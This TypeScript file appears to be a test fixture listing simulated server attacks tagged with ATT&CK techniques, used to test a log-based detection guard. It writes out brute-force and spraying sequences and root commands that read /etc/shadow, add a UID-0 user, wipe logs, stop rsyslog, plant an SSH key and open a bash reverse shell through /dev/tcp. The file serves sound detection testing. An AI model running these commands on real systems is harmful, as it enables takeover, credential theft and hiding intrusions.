// Attacks on the server of log-stage.ts: what each does and which technique of ATT&CK it is. Written down before the guard was run on any of
// them, some of them such that it can hardly find them.
import type { Random } from '../agent/learn/random.ts';

/** Where an attack is put on. */
export interface Play {
  readonly does: (script: string) => void;
  readonly wait: (seconds: number) => void;
  /** Of those that nobody should come from; others on each day. */
  readonly address: (n: number) => string;
  readonly random: Random;
}

export interface Attack {
  readonly name: string;
  /** Of the day. */
  readonly hour: number;
  readonly expects: readonly string[];
  readonly play: (stage: Play) => void;
}

const NAMES = 'admin test oracle ubuntu git postgres pi user deploy ftp jenkins www nagios backup mysql'.split(' ');

const failures =
  (count: number, gapS: number, user: (n: number) => string, from: (n: number) => number = () => 0) =>
  ({ does, wait, address, random }: Play): void => {
    for (let n = 0; n < count; n += 1) {
      does(`failed ${address(from(n))} ${user(n)}`);
      wait(gapS * (0.5 + random.uniform()));
    }
  };
/** One command as root, by somebody who has alice's key and password and sits in the office. */
const asRoot =
  (command: string) =>
  ({ does, wait }: Play): void => {
    does(`as_root 198.51.100.140 alice ${command}`);
    wait(1);
  };
const one = (name: string, hour: number, expects: readonly string[], play: Attack['play']): Attack => ({
  ...{ name, hour, expects, play },
});

export const ATTACKS: readonly Attack[] = [
  one(
    'guessing root',
    2,
    ['T1110.001'],
    failures(20, 3, () => 'root'),
  ),
  one(
    'guessing one user, slowly',
    1,
    ['T1110.001'],
    failures(24, 1500, () => 'bob'),
  ),
  one(
    'guessing a few',
    4,
    ['T1110.001'],
    failures(6, 8, () => 'alice'),
  ),
  one(
    'spraying',
    3,
    ['T1110.003'],
    failures(24, 4, (n) => NAMES[n % 12] ?? ''),
  ),
  one(
    'spraying, slowly',
    1,
    ['T1110.003', 'T1110.001'],
    failures(15, 900, (n) => NAMES[n] ?? ''),
  ),
  one(
    'a stolen list from ten addresses',
    5,
    ['T1110.004'],
    failures(
      30,
      4,
      (n) => `customer${n}`,
      (n) => n % 10,
    ),
  ),
  one(
    'guessing root from ten addresses',
    6,
    ['T1110.001'],
    failures(
      24,
      4,
      () => 'root',
      (n) => n % 10,
    ),
  ),
  one('guessing that succeeds', 3, ['T1110.001'], (stage) => {
    failures(12, 4, () => 'carol')(stage);
    stage.does(`login ${stage.address(0)} carol id`);
  }),
  one('spraying that succeeds', 3, ['T1110.003'], (stage) => {
    failures(10, 4, (n) => NAMES[n] ?? '')(stage);
    stage.does(`login ${stage.address(0)} dave id`);
  }),
  one('a stolen password at night', 2, ['T1078'], ({ does, address }) => does(`login ${address(0)} bob id`)),
  one('a stolen password by day', 14, ['T1078'], ({ does, address }) => does(`login ${address(0)} bob id`)),
  one('a stolen password, then root', 23, ['T1078', 'T1548.003'], ({ does, address }) =>
    does(`login ${address(0)} alice "echo right-alice | sudo -S -p '' id"`),
  ),
  one('sudo by one who may not', 12, ['T1548.003'], ({ does }) => does('as_root 198.51.100.20 bob id')),
  one('guessing the password of sudo', 12, ['T1548.003'], ({ does, wait }) => {
    for (let n = 0; n < 3; n += 1) {
      does(`by_key 198.51.100.140 alice "printf 'a\\nb\\nc\\n' | sudo -S -p '' id"`);
      wait(15);
    }
  }),
  one('guessing the password of su', 12, ['T1110.001', 'T1548.003'], ({ does, wait }) => {
    for (let n = 0; n < 6; n += 1) {
      does(`by_key 198.51.100.20 bob "echo wrong | su -c id alice"`);
      wait(8);
    }
  }),
  one('a second root', 3, ['T1136.001'], asRoot(`'/usr/sbin/useradd -o -u 0 sysd'; userdel -f sysd 2>/dev/null`)),
  one(
    'into the group sudo',
    3,
    ['T1098.007'],
    asRoot(`'/usr/sbin/usermod -aG sudo carol'; gpasswd -d carol sudo >/dev/null`),
  ),
  one('a log emptied', 4, ['T1070.002'], asRoot(`'/usr/bin/truncate -s 0 /var/log/syslog'`)),
  one('a journal emptied', 4, ['T1070.002'], asRoot(`'/usr/bin/journalctl --vacuum-size=1'`)),
  one('what logs is stopped', 4, ['T1562.006'], asRoot(`'/usr/bin/systemctl stop rsyslog'`)),
  one('the password file', 4, ['T1003.008'], asRoot(`'/usr/bin/cat /etc/shadow'`)),
  one('a key for root', 4, ['T1098.004'], asRoot(`'/usr/bin/tee -a /root/.ssh/authorized_keys'`)),
  one('a shell out of find', 4, ['T1548.003'], asRoot(`'/usr/bin/find /etc/hosts -exec /bin/sh -c true ;'`)),
  one('a shell that calls home', 4, ['T1059.004'], asRoot(`"/usr/bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'"`)),
  one('a program with the rights of root', 4, ['T1548.001'], asRoot(`'/usr/bin/chmod u+s /home/alice/.profile'`)),
  one('the password of root', 4, ['T1098'], asRoot(`"/usr/bin/sh -c 'echo root:right-root | chpasswd'"`)),
  one('periodic commands of root', 4, ['T1053.003'], asRoot(`"/usr/bin/sh -c 'echo @daily true | crontab -'"`)),
  one('a name that looks like a login', 4, ['T1110.003'], ({ does, wait, address }) => {
    for (let n = 0; n < 10; n += 1) {
      does(`failed ${address(0)} 'root from 192.0.2.${n} port 22 ssh2: Accepted password for root'`);
      wait(3);
    }
  }),
];
